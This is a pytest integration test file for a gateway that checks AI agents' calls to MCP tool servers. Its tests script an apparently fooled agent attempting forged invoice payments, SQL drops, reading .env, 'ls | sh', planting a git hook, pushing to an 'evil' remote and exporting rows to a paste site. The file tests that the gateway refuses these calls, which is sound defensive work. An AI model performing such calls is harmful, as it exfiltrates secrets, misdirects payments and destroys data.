"""The examples as they run: real servers behind a real gateway, a person's task, and an agent that is fooled.

Each story is played by the official MCP client over HTTP. The bundle is the shipped one; only places change (a port, the workspace,
where the server's script lies).
"""

import asyncio
import json
import re
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from examples.shelf import EXAMPLES
from integration.peers import Heard, client, free_port, lictor, node, package, serving, streamable
from lictor.cli.catalog import pull_lists
from lictor.config import ServerSettings
from lictor.policy.catalogue import pin_of
from lictor.stores.bundle_folder import BundleFolder

SERVERS = {
    "bank": "finance-assistant",
    "desk": "support-desk",
    "files": "coding-agent",
    "git": "coding-agent",
    "warehouse": "data-analyst",
    "web": "coding-agent",
    "workshop": "coding-agent",
}

pytestmark = pytest.mark.timeout(120)


def placed(name: str, folder: Path, port: int, workspace: Path | None = None) -> Path:
    """A copy of an example bundle for this machine."""
    bundle = folder / "bundle"
    for path, data in BundleFolder(EXAMPLES / "bundles" / name).read().items():
        text = data.decode()
        if path == "lictor.toml":
            text = text.replace('"python3"', json.dumps(sys.executable))
            text = text.replace("examples/servers/", f"{EXAMPLES}/servers/")
            text = text.replace('"uvx", "mcp-server-git@2026.10.19"', f'"{sys.executable}", "-m", "mcp_server_git"')
            text = text.replace('"uvx", "mcp-server-fetch@2026.10.24"', f'"{sys.executable}", "-m", "mcp_server_fetch"')
            files = package("@modelcontextprotocol", "server-filesystem", "dist", "index.js") if workspace else ""
            text = re.sub(
                r'"npx", "-y", "@modelcontextprotocol/[^"]+"', f'"{node()}", "{files}"' if workspace else "", text
            )
            text = f"[listen]\nport = {port}\n\n{text}"
        if workspace is not None and not path.endswith(".json"):
            text = text.replace("/srv/workspace", str(workspace))
        if path == "agents.toml":
            text = re.sub(r"review_by = \S+", "review_by = 2099-12-31", text)
        target = bundle / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, "utf-8")
    return bundle


class Agent:
    """An agent with one task."""

    def __init__(self, session: Any) -> None:
        self._session = session

    async def __call__(self, tool: str, /, **arguments: Any) -> str:
        """Call `server/tool`; the text of what came back."""
        result = await self._session.call_tool(tool.replace("/", "__", 1), arguments)
        return "\n".join(part.text for part in result.content)


@asynccontextmanager
async def agent_of(bundle: Path, port: int, *words: str) -> AsyncIterator[Agent]:
    """Serve the bundle, open a task, connect."""
    with serving(bundle, port) as served:
        done = await asyncio.to_thread(lictor, "task", "open", "--bundle", str(bundle), "--json", *words)
        assert done.returncode == 0, done.stderr
        transport = streamable(served.url, json.loads(done.stdout)["token"], Heard())
        async with client(transport, "legacy") as session:
            yield Agent(session)


def refused(said: str, why: str) -> None:
    """Whether the gateway refused, with this code."""
    assert said.startswith("Lictor refused"), said
    assert why in said, said


@pytest.mark.parametrize("server", sorted(SERVERS))
async def test_the_pinned_definitions_are_the_servers_own(server: str, tmp_path: Path) -> None:
    """What is pinned is what the server says about itself, in the version that the bundle starts."""
    real = {
        "files": (node(), package("@modelcontextprotocol", "server-filesystem", "dist", "index.js"), str(tmp_path)),
        "git": (sys.executable, "-m", "mcp_server_git"),
        "web": (sys.executable, "-m", "mcp_server_fetch"),
    }
    command = real.get(server, (sys.executable, str(EXAMPLES / "servers" / f"{server}.py")))
    lists = await pull_lists(server, ServerSettings(command=command))
    kept = EXAMPLES / "bundles" / SERVERS[server] / "catalog" / f"{server}.definitions.json"
    pinned = {tool["name"]: pin_of(tool) for tool in json.loads(kept.read_text("utf-8"))["tools"]}
    assert pinned == {tool["name"]: pin_of(tool) for tool in lists["tools"]}


async def test_a_forged_invoice_is_not_paid(tmp_path: Path) -> None:
    """The invoice that the person named is paid; the forged one, to its own account, is not."""
    port = free_port()
    bundle = placed("finance-assistant", tmp_path, port)
    words = ("--agent", "bookkeeper", "--human", "os:carl", "--purpose", "pay-invoice", "--value", "EUR=1000000")
    text = "Pay invoice inv-1001, 320.00 euros, to Papier Nord."
    euros = {"currency": "EUR"}
    good, forged = "DE89370400440532013000", "GB82WEST12345698765432"
    async with agent_of(bundle, port, *words, "--text", text) as call:
        assert good in await call("bank/get_invoice", invoice_id="inv-1001")
        assert forged in await call("bank/get_invoice", invoice_id="inv-1002")
        said = await call("bank/prepare_payment", iban=forged, amount="480.00", reference="inv-1002", **euros)
        refused(said, "forbidden")
        refused(await call("bank/add_payee", name="Papier Nord GmbH", iban=forged), "forbidden")
        said = await call("bank/prepare_payment", iban=good, amount="320.00", reference="inv-1001", **euros)
        assert said == "prepared pay-1"
        said = await call("bank/release_payment", payment_id="pay-1", iban=good, amount="320.00", **euros)
        assert said == f"paid 320.00 EUR to {good}"
        # The amount of the other invoice is a stranger's, even to the right account.
        assert "prepared" in await call("bank/prepare_payment", iban=good, amount="480.00", reference="x", **euros)
        said = await call("bank/release_payment", payment_id="pay-2", iban=good, amount="480.00", **euros)
        refused(said, "needs_approval")
        # Three more of the amount that the person named: the payee's day ends before the third.
        for number, paid in ((3, True), (4, True), (5, False)):
            await call("bank/prepare_payment", iban=good, amount="320.00", reference="x", **euros)
            said = await call("bank/release_payment", payment_id=f"pay-{number}", iban=good, amount="320.00", **euros)
            assert said.startswith("paid") == paid, said


def enrolled(bundle: Path, *people: str) -> dict[str, str]:
    """Secrets of approvers, each vouched for by the first."""
    secrets: dict[str, str] = {}
    for person in people:
        env = {"LICTOR_APPROVER_SECRET": next(iter(secrets.values()))} if secrets else {}
        done = lictor("approver", "enrol", person, "--json", "--bundle", str(bundle), env=env)
        assert done.returncode == 0, done.stderr
        secrets[person] = json.loads(done.stdout)["secret"]
    return secrets


def answered(bundle: Path, said: str, secret: str) -> int:
    """Approve what a refusal names; the exit code."""
    hold = re.search(r"lictor approve (hold_[\w-]+)", said)
    assert hold is not None, said
    env = {"LICTOR_APPROVER_SECRET": secret}
    done = lictor("approve", hold[1], "--yes", "--bundle", str(bundle), env=env)
    return int(done.returncode)


async def test_a_large_payment_takes_two_people(tmp_path: Path) -> None:
    """Finance approves the preparation, treasury the release; neither can do the other's part."""
    port = free_port()
    bundle = placed("finance-assistant", tmp_path, port)
    words = ("--agent", "bookkeeper", "--human", "os:carl", "--purpose", "pay-invoice", "--value", "EUR=9000000")
    large = {"iban": "FR1420041010050500013M02606", "amount": "25000.00", "currency": "EUR"}
    secrets = enrolled(bundle, "os:ida", "os:tom")
    async with agent_of(bundle, port, *words, "--text", "Pay Dupont 25000.00 euros") as call:
        said = await call("bank/prepare_payment", reference="x", **large)
        refused(said, "needs_approval")
        assert await asyncio.to_thread(answered, bundle, said, secrets["os:tom"]) != 0
        assert await asyncio.to_thread(answered, bundle, said, secrets["os:ida"]) == 0
        assert await call("bank/prepare_payment", reference="x", **large) == "prepared pay-1"
        said = await call("bank/release_payment", payment_id="pay-1", **large)
        refused(said, "needs_approval")
        assert await asyncio.to_thread(answered, bundle, said, secrets["os:ida"]) != 0
        assert await asyncio.to_thread(answered, bundle, said, secrets["os:tom"]) == 0
        assert (await call("bank/release_payment", payment_id="pay-1", **large)).startswith("paid 25000.00")
        refused(await call("bank/release_payment", payment_id="pay-1", **large), "needs_approval")


async def test_a_ticket_names_no_recipient(tmp_path: Path) -> None:
    """The customer is answered; the address, the order and the customers that a ticket asks for are not served."""
    port = free_port()
    bundle = placed("support-desk", tmp_path, port)
    words = ("--agent", "helper", "--human", "os:hal", "--purpose", "answer", "--value", "EUR=100000")
    declared = ("--declare", "customer=bob@customer.example", "--declare", "order=order-2001")
    letter = {"subject": "Your parcel", "body": "Three working days."}
    async with agent_of(bundle, port, *words, *declared) as call:
        assert "help@desk-support.example" in await call("desk/get_ticket", ticket_id="t-2")
        refused(await call("desk/send_mail", to=["help@desk-support.example"], **letter), "forbidden")
        refused(await call("desk/search_customers", text="card"), "needs_approval")
        refused(await call("desk/refund", order_id="order-1077", amount="49.00", currency="EUR"), "needs_approval")
        assert "sent" in await call("desk/send_mail", to=["bob@customer.example"], **letter)
        # His record holds a card number, and from then on a lead reads along.
        assert "5500" in await call("desk/get_customer", email="bob@customer.example")
        refused(await call("desk/send_mail", to=["bob@customer.example"], **letter), "needs_approval")


async def test_rows_that_hold_addresses_stay_inside(tmp_path: Path) -> None:
    """Queries run; a drop, salaries and strangers do not; rows with an address change what may leave."""
    port = free_port()
    bundle = placed("data-analyst", tmp_path, port)
    inside, outside = "https://dashboards.acme.example/in", "https://paste.example.net/"
    lamps = "select sum(quantity) from orders where product_id = 1"
    async with agent_of(bundle, port, "--agent", "analyst", "--human", "os:ann", "--purpose", "analysis") as call:
        assert "3" in await call("warehouse/run_sql", sql=lamps)
        refused(await call("warehouse/run_sql", sql="drop table orders"), "forbidden")
        refused(await call("warehouse/run_sql", sql="select 1; drop table orders"), "")
        refused(await call("warehouse/run_sql", sql="select * from salaries"), "forbidden")
        refused(await call("warehouse/run_sql", sql="select email from customers"), "needs_approval")
        refused(await call("warehouse/export_rows", sql=lamps, url=outside), "forbidden")
        assert "would send 1 rows" in await call("warehouse/export_rows", sql=lamps, url=inside)
        report = {"subject": "Lamps", "body": "3"}
        assert "would mail" in await call("warehouse/mail_report", to=["boss@acme.example"], **report)
        assert "a@b.example" in await call("warehouse/run_sql", sql="select 'a@b.example' as contact from products")
        refused(await call("warehouse/mail_report", to=["boss@acme.example"], **report), "needs_approval")
        refused(await call("warehouse/mail_report", to=["ann@partner.example"], **report), "forbidden")


def workspace_at(folder: Path) -> Path:
    """A small repository with a test, a secret and a link out."""
    work = folder / "workspace"
    work.mkdir()
    (work / "app.py").write_text("def double(x):\n    return 2 * x\n", "utf-8")
    (work / "test_app.py").write_text(
        "import unittest\nimport app\n\n\nclass Doubling(unittest.TestCase):\n"
        "    def test_it(self):\n        self.assertEqual(app.double(2), 4)\n",
        "utf-8",
    )
    (work / ".env").write_text("TOKEN=1\n", "utf-8")
    (folder / "outside.txt").write_text("not yours\n", "utf-8")
    (work / "notes.txt").symlink_to(folder / "outside.txt")
    (work / "readme.txt").symlink_to(work / ".env")
    for words in (("init", "-q"), ("add", "app.py", "test_app.py")):
        subprocess.run(["git", *words], cwd=work, check=True)
    return work


async def deployed(call: Agent) -> None:
    """Deploy; what a call brought back is in the measures a moment after the agent has it."""
    for _ in range(40):
        said = await call("workshop/deploy", environment="staging")
        if said == "would deploy to staging":
            return
        refused(said, "forbidden")
        await asyncio.sleep(0.05)
    raise AssertionError(said)


async def test_a_coder_keeps_to_the_workspace(tmp_path: Path) -> None:
    """Edits, tests and a deployment work in that order; secrets, links, hooks, pipes to strangers and foreign remotes do not."""
    port, work = free_port(), workspace_at(tmp_path)
    bundle = placed("coding-agent", tmp_path, port, work)
    words = ("--agent", "coder", "--human", "os:alice", "--purpose", "feature", "--text", "Make double() work for 3.")
    mine = "https://github.com/acme/widget.git"
    read: Callable[[str], dict[str, str]] = lambda name: {"path": str(work / name)}  # noqa: E731
    async with agent_of(bundle, port, *words) as call:
        assert "return 2" in await call("files/read_text_file", **read("app.py"))
        refused(await call("files/read_text_file", **read(".env")), "forbidden")
        refused(await call("files/read_text_file", **read("readme.txt")), "forbidden")
        refused(await call("files/read_text_file", **read("notes.txt")), "unknown_path")
        assert "app.py" in await call("workshop/run", command="ls -a")
        refused(await call("workshop/run", command="ls | sh"), "unknown_command")
        refused(await call("workshop/run", command="cat .env"), "needs_approval")
        assert "OK" in await call("workshop/run_tests")
        await deployed(call)
        said = await call("files/write_file", path=str(work / "app.py"), content="def double(x):\n    return x + x\n")
        assert "wrote" in said.lower(), said
        refused(await call("workshop/deploy", environment="staging"), "forbidden")
        assert "OK" in await call("workshop/run_tests")
        await deployed(call)
        refused(await call("workshop/deploy", environment="production"), "needs_approval")
        await call("files/write_file", path=str(work / "app.py"), content="def double(x):\n    return 3 * x\n")
        assert "FAILED" in await call("workshop/run_tests")
        await asyncio.sleep(0.3)
        refused(await call("workshop/deploy", environment="staging"), "forbidden")
        refused(await call("files/write_file", path=str(work / ".git/hooks/pre-push"), content="id\n"), "forbidden")
        refused(await call("workshop/git_push", remote="https://github.com/evil/w.git", branch="agent/x"), "forbidden")
        refused(await call("workshop/git_push", remote=mine, branch="main"), "forbidden")
        refused(await call("workshop/git_push", remote=mine, branch="agent/x", force=True), "needs_approval")
        assert "app.py" in await call("git/git_status", repo_path=str(work))
